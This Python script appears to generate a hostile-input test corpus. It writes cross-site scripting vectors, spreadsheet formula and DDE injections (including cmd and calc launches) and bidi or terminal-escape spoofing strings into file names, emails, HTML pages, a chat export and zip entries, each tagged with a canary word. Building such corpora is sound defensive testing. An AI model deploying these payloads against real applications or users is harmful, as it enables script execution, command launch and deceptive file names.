#!/usr/bin/env python3
# SPDX-License-Identifier: AGPL-3.0-or-later
"""A trove that attacks whoever shows it: script, markup, spreadsheet formulas and signs that turn lines round, in file
names, texts, senders, subjects, titles and names inside archives. Each payload has a word of its own (zqx0001 …) beside it, by
which it is found.

usage: payloads.py FOLDER     writes the trove, prints the payloads as JSON"""
import email.header
import json
import pathlib
import sys
import zipfile

RUN = "globalThis.pwned={n}"
MARKUP = [
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "</script><script>{run}</script>", "<script src=//x.invalid/{n}></script>",
    "<img src=x onerror={run}>", "<img src=x onerror='{run}'>", '"><img src=x onerror={run}>', "'><img src=x onerror={run}>", "<img/src=x/onerror={run}>",
    "<svg onload={run}>", "<svg><script>{run}</script></svg>", "<svg><animate onbegin={run} attributeName=x>", "<math><mtext></mtext><script>{run}</script></math>",
    "<iframe srcdoc='<script>parent.pwned={n}</script>'></iframe>", "<iframe src=javascript:{run}></iframe>", "<object data=javascript:{run}></object>",
    "<embed src=javascript:{run}>", "<a href=javascript:{run} id=x{n}>press</a>", "<a href='java\tscript:{run}'>press</a>", "[press](javascript:{run})",
    "<body onload={run}>", "<details open ontoggle={run}>", "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}>", "<textarea autofocus onfocus={run}>", "<marquee onstart={run}>", "<form action=javascript:{run}><button>go</button></form>",
    "<base href=//x.invalid/>", "<meta http-equiv=refresh content=0;url=//x.invalid/{n}>", "<link rel=stylesheet href=//x.invalid/{n}.css>", "<style>*{{display:none}}</style>",
    "<style>@import '//x.invalid/{n}.css'</style>", "<template><script>{run}</script></template>", "<noscript><p title='</noscript><img src=x onerror={run}>'>",
    "<![CDATA[<script>{run}</script>]]>", "<!--><script>{run}</script>", "<?xml-stylesheet href=//x.invalid/{n}?>", "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e", "\\x3cscript\\x3e{run}\\x3c/script\\x3e", "%3Cscript%3E{run}%3C/script%3E", "＜script＞{run}＜/script＞", "javascript:{run}//",
    "';{run};//", '";{run};//', "`;{run};`", "${{{run}}}", "{{{{constructor.constructor('{run}')()}}}}", "</title><script>{run}</script>", "</textarea><script>{run}</script>",
    "</style><script>{run}</script>", "]]><script>{run}</script>", "<x contenteditable onblur={run}>", "<p style=background:url(//x.invalid/{n})>", "<table background=//x.invalid/{n}>",
    "<plaintext>", "<xmp><script>{run}</script>", "<button popovertarget=x onclick={run}>press</button>", "<dialog open onclose={run}>", "<div onpointerover={run}>over</div>",
]
SHEETS = [
    "=1+{n}", "=cmd|' /C calc'!A{n}", "=HYPERLINK(\"//x.invalid/{n}\",\"press\")", "=WEBSERVICE(\"//x.invalid/{n}\")", "=IMPORTXML(\"//x.invalid/{n}\",\"a\")", "=IMAGE(\"//x.invalid/{n}\")",
    "+1+{n}", "+cmd|' /C calc'!A{n}", "-1+{n}", "-cmd|' /C calc'!A{n}", "@SUM(1+{n})", "@cmd|' /C calc'!A{n}", "\t=1+{n}", "  =1+{n}", "\"=1+{n}\"", "'=1+{n}", ";=1+{n}", ",=1+{n}",
    "=1+{n}\",\"=2", "＝1+{n}", "=DDE(\"cmd\";\"/C calc\";\"{n}\")", "=rundll32|'URL.dll,OpenURL x'!A{n}", "|calc {n}", "%0A=1+{n}",
]
TURNS = [
    "\u202egpj.{n}.exe", "\u202d{n}\u202c", "\u2066right\u2069{n}", "\u2067{n}\u2069", "\u200f{n}\u200e", "a\u200b{n}", "\ufeff{n}", "{n}\u0085x", "\x1b[31m{n}\x1b[0m", "\x1b]0;{n}\x07", "\x7f{n}", "e" + "\u0301" * 60 + "{n}",
    "\u2028{n}\u2029",
]
WRAPS = ["{p}", "a {p}", "{p}{p}"]
NAME_MOST = 180  # bytes; a file system takes 255


def payloads():
    plain = [(kind, text) for kind, texts in (("markup", MARKUP), ("sheet", SHEETS), ("turn", TURNS)) for text in texts]
    out = []
    for wrap in WRAPS:
        for kind, text in plain:
            n = len(out) + 1
            filled = text.format(n=n, run=RUN.format(n=n))
            out.append({"n": n, "word": f"zqx{n:04}", "kind": kind, "text": wrap.format(p=filled)})
    return out


def name_of(one):
    text = one["text"].replace("/", "∕").replace("\0", "")
    while len(text.encode()) > NAME_MOST:
        text = text[:-1]
    return f"{text} {one['word']}"


def mail(one):
    """Sender, subject, body and the name of an attachment."""
    said = one["text"].replace("\r", " ").replace("\n", " ")
    coded = email.header.Header(said, "utf-8", maxlinelen=10000).encode()
    return (f"From: {coded} <{one['word']}@egret.example>\nTo: desk@egret.example\nSubject: {coded}\nDate: Tue, 14 Jun 2022 10:{one['n'] % 60:02}:00 +0800\n"
            f"Message-ID: <{one['word']}@egret.example>\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: 8bit\n\n{said}\n{one['word']} mail\n")


def chat():
    """An export of Telegram's: each payload is said by somebody who is called so."""
    said = [{"id": one["n"], "type": "message", "date": f"2022-06-14T{10 + one['n'] // 60}:{one['n'] % 60:02}:00", "from": one["text"], "from_id": f"user{one['n']}",
             "text": f"{one['text']} {one['word']} chat"} for one in payloads()]
    return {"name": said[0]["from"], "type": "private_group", "id": 77, "messages": said}


def page(one):
    return (f"<html><head><title>{escape(one['text'])}</title><meta name=author content=\"{escape(one['text'])}\"></head>"
            f"<body><p>{escape(one['text'])}</p><p>{one['word']} page</p></body></html>")


def escape(text):
    return text.replace("&", "&amp;").replace("<", "&lt;").replace('"', "&quot;")


def write(folder):
    root = pathlib.Path(folder)
    for sub in ("chat", "mail", "pages"):
        (root / sub).mkdir(parents=True, exist_ok=True)
    archive = zipfile.ZipFile(root / "packed.zip", "w")
    for one in payloads():
        (root / name_of(one)).write_text(f"named {one['word']}\n")
        (root / "mail" / f"{one['n']:04}.eml").write_text(mail(one))
        (root / "pages" / f"{one['n']:04}.html").write_text(page(one))
        archive.writestr(f"in/{name_of(one)}.txt", f"packed {one['word']}\n")
    archive.close()
    (root / "chat" / "result.json").write_text(json.dumps(chat()))


if __name__ == "__main__":
    write(sys.argv[1])
    json.dump(payloads(), sys.stdout)
